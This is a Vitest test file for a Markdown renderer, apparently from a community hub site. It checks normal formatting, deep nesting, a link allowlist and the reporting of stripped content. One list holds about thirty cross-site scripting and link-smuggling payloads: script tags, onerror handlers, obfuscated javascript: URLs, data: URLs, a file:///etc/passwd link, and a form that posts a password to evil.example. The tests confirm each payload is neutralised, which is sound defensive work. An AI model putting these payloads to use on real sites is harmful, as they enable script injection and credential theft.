// @vitest-environment happy-dom
import { screen } from '@testing-library/react'
import { expect, test } from 'vitest'
import { defaultTexts } from '../../../shared/features/information/defaultTexts.ts'
import { routes } from '../../routes.tsx'
import { renderScreen } from '../../testing/renderScreen.tsx'
import { addressOf, lostPieces, Markdown } from './Markdown.tsx'

const drawn = (text: string) => {
  const { unmount } = renderScreen(<Markdown text={text} />)
  const html = document.body.innerHTML
  const tags = new Set([...document.body.querySelectorAll('*')].map(({ tagName }) => tagName.toLowerCase()))
  const links = [...document.body.querySelectorAll('a')].map((link) => link.getAttribute('href'))
  const shown = document.body.textContent
  const own = [...document.body.querySelectorAll('*')].flatMap((element) => element.getAttributeNames())
  unmount()
  return { html, tags, links, shown, attributes: new Set(own) }
}

test('[IP7] a text is drawn with headings, lists, quotes, code, tables and links', () => {
  const text = [
    '# Rules\n\nBe **fair** and *kind*, ~~not~~ `rude` &amp; loud.',
    '1. One\n2. Two\n   - Inner',
    '> Quoted\n\n---\n\n    code',
    '| A | B |\n|---|---|\n| 1 | 2 |',
    '[Map](/map) [Wiki](https://wiki.example/a?b=1) [Mail](mailto:staff@island.example)',
  ].join('\n\n')
  renderScreen(<Markdown text={text} />)
  expect(screen.getByRole('heading', { level: 2, name: 'Rules' })).toBeDefined()
  expect(screen.getByText(/& loud\./)).toBeDefined()
  expect(screen.getAllByRole('listitem').length).toBe(3)
  expect(screen.getByRole('cell', { name: '2' })).toBeDefined()
  expect(screen.getAllByRole('link').map((link) => link.getAttribute('href'))).toEqual([
    '/map',
    'https://wiki.example/a?b=1',
    'mailto:staff@island.example',
  ])
})

/** Texts that run a script, load something or mislead in a renderer that trusts them. */
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox)',
  '[x](file:///etc/passwd)',
  '[x](http://plain.example)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '[x](/auth/steam)',
  '[x](/api/logout)',
  '[x](https://steam@evil.example)',
  '<javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '![x](https://evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '![<img src=x onerror=alert(1)>](x)',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '| <script>alert(1)</script> |\n|---|\n| <b onclick=alert(1)>x</b> |',
  '```html" onload=alert(1)\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '# <img src=x onerror=alert(1)>\n\n- <script>alert(1)</script>\n\n> <iframe src=javascript:alert(1)>',
]
const allowedTags = new Set(
  'div p h2 h3 h4 h5 h6 ul ol li blockquote pre code hr br strong em s a section table thead tbody tr th td'.split(' '),
)
const allowedAttributes = new Set(['class', 'dir', 'href', 'rel', 'start', 'aria-label', 'tabindex'])

test.each(hostile)('[IP8] no script, image, form or hidden address comes of %j', (text) => {
  const { tags, links, attributes } = drawn(text)
  expect([...tags].filter((tag) => !allowedTags.has(tag))).toEqual([])
  expect([...attributes].filter((attribute) => !allowedAttributes.has(attribute))).toEqual([])
  expect(links).toEqual([])
})

test('[IP9] a text nested without end is shown as it was written', { tags: 'slow' }, () => {
  for (const text of ['>'.repeat(20_000), '> '.repeat(10_000), `${'- '.repeat(2_000)}x`, '['.repeat(20_000)])
    expect(drawn(text).shown.length).toBeGreaterThan(0)
})

test('[IP10] links lead by https, to mail addresses and to pages of this site alone', () => {
  const kept = ['https://a.example/', 'mailto:a@b.example', '/map', '/games?tab=trivia', '/']
  expect(kept.map((address) => addressOf(address)?.href)).toEqual(kept)
  for (const address of [
    'http://a.example',
    'ftp://a',
    '//a',
    '/auth/discord',
    'map',
    '#top',
    '',
    'https://u:p@a.example',
  ])
    expect(addressOf(address), address).toBeNull()
})

test('[IP11] the editor learns what readers will not see', () => {
  const text = 'a <b>c</b>\n\n- ![x](https://a.example/i.png) [y](javascript:z)\n\n| [q](ftp://a) |\n|---|'
  expect(lostPieces(text)).toEqual({ html: 2, images: 1, links: ['javascript:z', 'ftp://a'] })
})

test('[IP12] the texts that come with the hub lose nothing, and each of their links is a page', () => {
  for (const text of Object.values(defaultTexts)) {
    expect(lostPieces(text)).toEqual({ html: 0, images: 0, links: [] })
    for (const href of drawn(text).links)
      expect(
        routes.some(({ path }) => path === href),
        String(href),
      ).toBe(true)
  }
})
